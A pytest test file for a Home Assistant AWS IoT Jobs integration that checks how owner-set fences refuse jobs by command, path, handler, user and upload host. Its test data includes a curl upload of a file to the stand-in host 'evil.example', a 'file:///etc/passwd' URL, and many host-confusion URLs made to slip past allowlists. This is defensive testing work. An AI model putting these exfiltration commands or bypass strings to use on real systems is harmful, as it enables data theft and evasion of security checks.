"""What the owner of a home lets no job do is refused before anything runs or is asked."""

from dataclasses import replace
from pathlib import Path
import re
from typing import Any

from hypothesis import given, settings, strategies as st
import pytest

from custom_components.aws_iot_jobs.aws_iot.model import (
    ExecutionKey,
    JobExecution,
    JobStatus,
)
from custom_components.aws_iot_jobs.jobs.approval import ApprovalPolicy
from custom_components.aws_iot_jobs.jobs.errors import InvalidJobDocumentError
from custom_components.aws_iot_jobs.jobs.events import JobEventType
from custom_components.aws_iot_jobs.jobs.fences import (
    NO_USER,
    OPEN,
    FencedOffError,
    Fences,
    host_allowed,
    read_document,
)
from custom_components.aws_iot_jobs.jobs.hosts import host_pattern
from custom_components.aws_iot_jobs.jobs.opening import NOTHING, opening_of
from custom_components.aws_iot_jobs.jobs.plan import plan_of
from custom_components.aws_iot_jobs.runner.local import LocalRunner
from custom_components.aws_iot_jobs.runner.model import HandlerCall

from ..fake_jobs_service import FakeJobsService
from .conftest import Device
from .documents import command_step, document, handler_step

S3 = "s3.eu-central-1.amazonaws.com"
HOSTS = Fences(upload_hosts=frozenset({S3, f"*.{S3}", "example.com"}))
LOCKED_DOWN = Fences(
    commands=True,
    paths=True,
    handlers=frozenset({"health-check.sh", "/opt/tool"}),
    users=frozenset({NO_USER}),
    upload_hosts=HOSTS.upload_hosts,
)
NO_COMMANDS = Fences(commands=True)
NO_PATHS = Fences(paths=True)
THESE_HANDLERS = Fences(handlers=frozenset({"a.sh", "sub/b.sh", "/opt/tool"}))
THESE_USERS = Fences(users=frozenset({"nobody"}))
OWN_USER = Fences(users=frozenset({NO_USER}))


def _path_step(handler: str, path: str | None) -> dict[str, Any]:
    step = handler_step(handler)
    if path is None:
        del step["action"]["input"]["path"]
    else:
        step["action"]["input"]["path"] = path
    return step


def _refusal(found: Any, fences: Fences) -> str:
    with pytest.raises(FencedOffError) as refusal:
        read_document(found, fences)
    return str(refusal.value)


@pytest.mark.parametrize(
    ("found", "fences", "says"),
    [
        (
            document(command_step("true")),
            NO_COMMANDS,
            (
                "steps[0].action.input.command: commands are not allowed on this Home "
                'Assistant (fence "commands")'
            ),
        ),
        (
            document(handler_step("a.sh"), finalStep=command_step("true")),
            NO_COMMANDS,
            (
                "finalStep.action.input.command: commands are not allowed on this Home "
                'Assistant (fence "commands")'
            ),
        ),
        (
            document(_path_step("sh", "/bin")),
            NO_PATHS,
            (
                "steps[0].action.input.path: path '/bin' is not allowed on this Home "
                'Assistant, only the handler directory is (fence "paths")'
            ),
        ),
        (
            {"operation": "sh", "path": "/bin"},
            NO_PATHS,
            (
                "path: path '/bin' is not allowed on this Home Assistant, only the handler "
                'directory is (fence "paths")'
            ),
        ),
        (
            document(handler_step("a.sh"), handler_step("x.sh")),
            THESE_HANDLERS,
            (
                "steps[1].action.input.handler: handler 'x.sh' is not among those that are "
                'allowed on this Home Assistant (fence "handlers")'
            ),
        ),
        (
            document(_path_step("a.sh", "/tmp/")),
            THESE_HANDLERS,
            (
                "steps[0].action.input.handler: handler '/tmp/a.sh' is not among those that "
                'are allowed on this Home Assistant (fence "handlers")'
            ),
        ),
        (
            {"operation": "x.sh"},
            THESE_HANDLERS,
            (
                "operation: handler 'x.sh' is not among those that are allowed on this Home "
                'Assistant (fence "handlers")'
            ),
        ),
        (
            document(command_step("true", runAsUser="root")),
            THESE_USERS,
            (
                "steps[0].action.runAsUser: user 'root' is not among those that are allowed "
                'on this Home Assistant (fence "users")'
            ),
        ),
        (
            document(handler_step("a.sh")),
            THESE_USERS,
            (
                "steps[0].action.runAsUser: steps that name no user are not allowed on this "
                'Home Assistant (fence "users")'
            ),
        ),
        (
            {"operation": "a.sh"},
            THESE_USERS,
            (
                "operation: steps that name no user are not allowed on this Home Assistant "
                '(fence "users")'
            ),
        ),
        (
            {"operation": "a.sh", "args": ["root", "x"]},
            OWN_USER,
            (
                "args[0]: user 'root' is not among those that are allowed on this Home "
                'Assistant (fence "users")'
            ),
        ),
        (
            document(handler_step("a.sh", "x", "https://evil.example/y")),
            HOSTS,
            (
                "steps[0].action.input.args[1]: URLs of host 'evil.example' are not allowed "
                'on this Home Assistant (fence "upload_hosts")'
            ),
        ),
        (
            {"operation": "a.sh", "args": ["https://evil.example/y"]},
            HOSTS,
            (
                "args[0]: URLs of host 'evil.example' are not allowed on this Home Assistant "
                '(fence "upload_hosts")'
            ),
        ),
        (
            document(command_step("curl,-T,/f,https://evil.example/y")),
            HOSTS,
            (
                "steps[0].action.input.command: URLs of host 'evil.example' are not allowed "
                'on this Home Assistant (fence "upload_hosts")'
            ),
        ),
        (
            document(handler_step("a.sh", runAsUser="https://evil.example/")),
            HOSTS,
            (
                "steps[0].action.runAsUser: URLs of host 'evil.example' are not allowed on "
                'this Home Assistant (fence "upload_hosts")'
            ),
        ),
        (
            document(handler_step("a.sh", "https://u:secret@example.com/")),
            HOSTS,
            (
                "steps[0].action.input.args[0]: has a URL that does not plainly "
                "name its host, which is not allowed on this Home Assistant (fence "
                '"upload_hosts")'
            ),
        ),
    ],
)
def test_what_is_fenced_off_is_refused_with_its_field(
    found: Any, fences: Fences, says: str
) -> None:
    """In both schemas, in all steps. Without the fence, it is a document like any other."""
    assert _refusal(found, fences) == says
    assert read_document(found, OPEN).all_steps


@pytest.mark.parametrize(
    ("found", "fences"),
    [
        (document(handler_step("a.sh")), NO_COMMANDS),
        (document(command_step("true")), NO_PATHS),
        (document(handler_step("a.sh")), NO_PATHS),
        (document(command_step("true")), THESE_HANDLERS),
        (document(handler_step("sub/b.sh")), THESE_HANDLERS),
        (document(_path_step("tool", "/opt")), THESE_HANDLERS),
        (document(_path_step("tool", "/opt/")), THESE_HANDLERS),
        (document(_path_step("a.sh", "")), THESE_HANDLERS),
        (document(command_step("true", runAsUser="nobody")), THESE_USERS),
        ({"operation": "a.sh", "args": ["nobody"]}, THESE_USERS),
        ({"operation": "a.sh"}, OWN_USER),
        (document(handler_step("a.sh", f"https://bucket.{S3}/x")), HOSTS),
        (document(handler_step("health-check.sh")), LOCKED_DOWN),
    ],
)
def test_what_no_fence_is_about_passes(found: Any, fences: Fences) -> None:
    """Each looks at what it is for, and at nothing else."""
    assert read_document(found, fences) == read_document(found, OPEN)


@pytest.mark.parametrize("path", [None, ""])
def test_without_path_only_the_handler_directory_is_looked_at(path: str | None) -> None:
    """What lies on PATH is not put there by the owner."""
    for found in (
        document(_path_step("sh", path), finalStep=_path_step("sh", path)),
        {"operation": "sh", "path": path},
    ):
        for step in read_document(found, NO_PATHS).all_steps:
            assert isinstance(step.call, HandlerCall)
            assert step.call.path == "default"


def test_the_fences_that_are_up_have_names() -> None:
    """Also those behind which nothing at all is allowed."""
    assert OPEN.up == ()
    assert LOCKED_DOWN.up == ("commands", "paths", "handlers", "users", "upload_hosts")
    assert Fences(upload_hosts=frozenset()).up == ("upload_hosts",)


@pytest.mark.parametrize(
    "text",
    [
        f"https://{S3}/bucket/key?X-Amz-Signature=abc",
        f"HTTPS://Bucket.{S3.upper()}/key",
        f"https://a.bucket.{S3}/key",
        f"https://{S3}.:443/bucket/key",
        f"url=https://bucket.{S3}/key",
        f'{{"a": "https://{S3}/1", "b": "https://{S3}/2"}}',
        "http://example.com",
        "https://example.com:8443?query=1",
        f"https://bucket.{S3}/a@b/https%3A%2F%2Fevil.example",
    ],
)
def test_urls_of_allowed_hosts(text: str) -> None:
    """However they are written, as long as it is plain."""
    assert host_allowed(text, HOSTS)
    assert read_document(document(handler_step("a.sh", text)), HOSTS)


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.example/",
        "HTTPS://EVIL.EXAMPLE/",
        "key=https://evil.example/",
        "-Thttp://evil.example",
        "https:evil.example",
        "https:/evil.example/",
        "https:///evil.example/",
        "https:\\\\evil.example\\",
        f"https://{S3}@evil.example/",
        f"https://{S3}:443@evil.example/",
        f"https://evil.example\\@{S3}/",
        f"https://evil.example@{S3}/",
        f"https://a@evil.example@{S3}/",
        f"https://evil.example\n.{S3}/",
        f"https://{S3} @evil.example/",
        "ht\ntps://evil.example/",
        "h\tttps://evil.example/",
        f"https://{S3}.evil.example/",
        f"https://evil{S3}/",
        f"https://{S3}..evil.example/",
        f"https://{S3}../",
        "https://sub.example.com/",
        "https://example.com\uff0eevil/",
        "https://ex\u00e4mple.com/",
        "https://\uff45xample.com/",
        "https://%65xample.com/",
        "https://example.com:https/",
        "https://127.0.0.1/",
        "https://0x7f000001/",
        "https://[::1]:443/",
        "https://",
        "ftp://evil.example/",
        "ftp://example.com/",
        "s3://bucket/key",
        "file:///etc/passwd",
        f"https://{S3}/https://evil.example/",
        f"https://{S3}/ https://evil.example/",
        f"https://{S3}https://evil.example/",
        "https://" + "a." * 20_000 + "example.com/",
    ],
)
def test_urls_of_other_hosts(text: str) -> None:
    """A URL that two programs may read in two ways is one of another host."""
    assert not host_allowed(text, HOSTS)
    assert host_allowed(text, OPEN)
    assert 'fence "upload_hosts"' in _refusal(
        document(handler_step("a.sh", text)), HOSTS
    )


@pytest.mark.parametrize("text", ["", "x", "/a//b", "example.com/x", "a: b", "user@h"])
def test_text_without_url(text: str) -> None:
    """A handler may be given it; nothing can be uploaded there."""
    assert not host_allowed(text, HOSTS)
    assert read_document(document(handler_step("a.sh", text)), HOSTS)


@pytest.mark.parametrize(
    ("entered", "pattern"),
    [
        (" Example.COM. ", "example.com"),
        (f"*.{S3}", f"*.{S3}"),
        ("localhost", "localhost"),
        ("[::1]", "[::1]"),
    ],
)
def test_pattern_of_hosts(entered: str, pattern: str) -> None:
    """They are compared in lower case."""
    assert host_pattern(entered) == pattern


@pytest.mark.parametrize(
    "entered",
    ["", "*", "*.", "a.*", "https://a", "a/b", "a:443", "b\u00fccher.example", "a..b"],
)
def test_what_is_no_pattern_of_hosts(entered: str) -> None:
    """It would never match, or more than is meant."""
    with pytest.raises(ValueError, match="not the name of a host"):
        host_pattern(entered)


# Whatever it looks like, nothing gets past all of them

_words = st.text(max_size=8) | st.sampled_from(
    [
        "health-check.sh",
        "/opt/tool",
        "./health-check.sh",
        "tool",
        "https://evil.example/x",
        f"https://bucket.{S3}/x",
        "a=HTTP:evil.example",
        "root",
        "nobody",
    ]
)
_paths = st.sampled_from(["default", "", "/opt", "/", "default/", "."]) | st.text(
    max_size=4
)
_handler_inputs = st.fixed_dictionaries(
    {"handler": _words}, optional={"args": st.lists(_words, max_size=3), "path": _paths}
)
_actions = st.fixed_dictionaries(
    {"name": st.just("n"), "type": st.just("runHandler"), "input": _handler_inputs},
    optional={"runAsUser": _words | st.just("")},
) | st.fixed_dictionaries(
    {
        "name": st.just("n"),
        "type": st.just("runCommand"),
        "input": st.fixed_dictionaries({"command": _words}),
    }
)
_steps = st.fixed_dictionaries({"action": _actions})
_documents = st.fixed_dictionaries(
    {"version": st.just("1.0"), "steps": st.lists(_steps, min_size=1, max_size=3)},
    optional={"finalStep": _steps},
) | st.fixed_dictionaries(
    {"operation": _words},
    optional={"args": st.lists(_words, max_size=3), "path": _paths},
)


@settings(max_examples=300, deadline=None)
@given(_documents)
def test_nothing_else_gets_past_locked_down(found: dict[str, Any]) -> None:
    """What passes runs a handler of the handler directory that is on the list, as nobody else."""
    try:
        parsed = read_document(found, LOCKED_DOWN)
    except InvalidJobDocumentError:
        return
    for step in parsed.all_steps:
        assert isinstance(step.call, HandlerCall)
        assert (step.call.handler, step.call.path) in {
            ("health-check.sh", "default"),
            # There is no such file in the handler directory: a name stays inside of it.
            ("/opt/tool", "default"),
        }
        assert step.run_as_user == ""
        assert "evil" not in "".join(step.call.args)


@settings(max_examples=200, deadline=None)
@given(_documents)
def test_fences_only_ever_refuse(found: dict[str, Any]) -> None:
    """They make no document valid, and of one that passes change nothing but its path."""
    try:
        parsed = read_document(found, OPEN)
    except InvalidJobDocumentError as err:
        with pytest.raises(InvalidJobDocumentError, match=f"^{re.escape(str(err))}$"):
            read_document(found, LOCKED_DOWN)
        return
    for fences in (NO_COMMANDS, NO_PATHS, THESE_HANDLERS, OWN_USER, HOSTS):
        try:
            passed = read_document(found, fences)
        except FencedOffError:
            continue
        for step, before in zip(passed.all_steps, parsed.all_steps, strict=True):
            if not isinstance(step.call, HandlerCall):
                assert step == before
            else:
                assert isinstance(before.call, HandlerCall)
                path = before.call.path or step.call.path
                assert step == replace(before, call=replace(before.call, path=path))


# The agent


@pytest.fixture
async def fenced(stopped_device: Device, service: FakeJobsService) -> Device:
    """Return a connected thing that is locked down, and asks about all jobs."""
    stopped_device.settings = replace(
        stopped_device.settings,
        fences=LOCKED_DOWN,
        approval=ApprovalPolicy.EVERY_JOB,
    )
    await stopped_device.start()
    await stopped_device.connected()
    await service.until(lambda: bool(service.requests))
    return stopped_device


async def test_a_fenced_off_job_is_rejected_without_asking(
    fenced: Device, service: FakeJobsService
) -> None:
    """AWS is told why, nobody is bothered, nothing has run, and a good job is taken next."""
    ran = fenced.handlers.parent / "ran"
    fenced.handler("health-check.sh", f"#!/bin/sh\ntouch {ran}\n")
    service.requests.clear()
    job = service.create_job(
        document(handler_step("health-check.sh"), finalStep=command_step("true"))
    )
    await service.ended(job)
    assert job.status == "REJECTED"
    assert job.status_details == {
        "reason": "finalStep.action.input.command: commands are not allowed on this "
        'Home Assistant (fence "commands")'
    }
    # It was announced, and not as one that has begun, or waits.
    assert "statusDetails" not in service.requests[0][1]
    await fenced.until(lambda state: state.jobs_failed == 1)
    told = {event.type for event in fenced.events}
    assert not told & {JobEventType.APPROVAL_REQUESTED, JobEventType.STARTED}
    assert not ran.exists()

    good = service.create_job(document(handler_step("health-check.sh")))
    await fenced.until(lambda state: state.job is not None and bool(state.job.approval))
    await fenced.agent.approve()
    await service.ended(good)
    assert good.status == "SUCCEEDED"
    assert ran.exists()


async def test_who_may_run_documents_may_not_run_these(fenced: Device) -> None:
    """The owner's fences are for the administrators of the home, too, and a plan says so."""
    found = document(command_step("true"))
    ended = await fenced.agent.run_document(found)
    assert ended.status is JobStatus.REJECTED
    assert ended.reason.endswith('(fence "commands")')
    plan = await fenced.agent.check_document(found)
    assert not plan.valid
    assert plan.problem == ended.reason
    assert plan.steps == ()


async def test_a_plan_finds_no_program_on_path(tmp_path: Path) -> None:
    """What it tells is what would run."""
    handlers = tmp_path / "handlers"
    handlers.mkdir(mode=0o700)
    runner = LocalRunner(handlers, tmp_path / "work")
    plan = await plan_of(
        document(_path_step("sh", None)), facts={}, runner=runner, fences=NO_PATHS
    )
    assert plan.valid
    assert plan.steps[0].problem is not None
    assert "there is no handler 'sh' in" in plan.steps[0].problem


def test_no_step_of_a_fenced_off_job_is_told_as_begun(stopped_device: Device) -> None:
    """Where AWS has announced its document."""
    announced = JobExecution(
        key=ExecutionKey("job-1", 1),
        status=JobStatus.QUEUED,
        version_number=1,
        document=document(command_step("true")),
    )
    assert opening_of(announced, stopped_device.settings) != NOTHING
    fenced = replace(stopped_device.settings, fences=NO_COMMANDS)
    assert opening_of(announced, fenced) == NOTHING


async def test_a_fence_that_goes_up_ends_a_job_that_is_under_way(
    stopped_device: Device, service: FakeJobsService
) -> None:
    """What is left of it does not run after the restart."""
    device = stopped_device
    await device.start()
    job = service.create_job(document(command_step("sleep,60"), command_step("true")))
    await device.until(
        lambda state: state.job is not None and state.job.current_index == 0
    )
    await device.stop()
    device.settings = replace(device.settings, fences=NO_COMMANDS)
    await device.start()
    await service.ended(job)
    assert job.status == "REJECTED"
    assert job.status_details["reason"].endswith('(fence "commands")')
